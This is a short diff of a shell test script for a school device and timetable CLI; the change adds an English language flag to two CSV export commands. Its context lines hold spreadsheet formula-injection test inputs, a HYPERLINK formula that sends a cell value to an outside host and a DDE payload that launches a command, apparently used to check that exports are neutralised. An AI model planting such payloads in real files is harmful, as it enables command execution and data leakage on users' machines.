@@ -117,8 +117,8 @@ sqlite3 "$DB" "UPDATE devices SET hostname = '=HYPERLINK(\"http://x/\"&A1)', roo
 printf 'school,room,weekday,start,end,teacher_id,teacher_name\n' > "$T/tt.csv"
 printf '0012,1-2,1,08:00,08:45,007,"@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0"\n' >> "$T/tt.csv"
 srv timetable import "$T/tt.csv" > /dev/null
-srv devices --format csv > "$T/devices.csv"
-srv points --week 2026-W48 --explain --format csv > "$T/points.csv"
+srv devices --format csv --lang en > "$T/devices.csv"
+srv points --week 2026-W48 --explain --format csv --lang en > "$T/points.csv"
 python3 - "$T/devices.csv" "$T/points.csv" "$id" <<'PY' || fail "CSV cells"
 import csv, re, sys
 def rows(p):
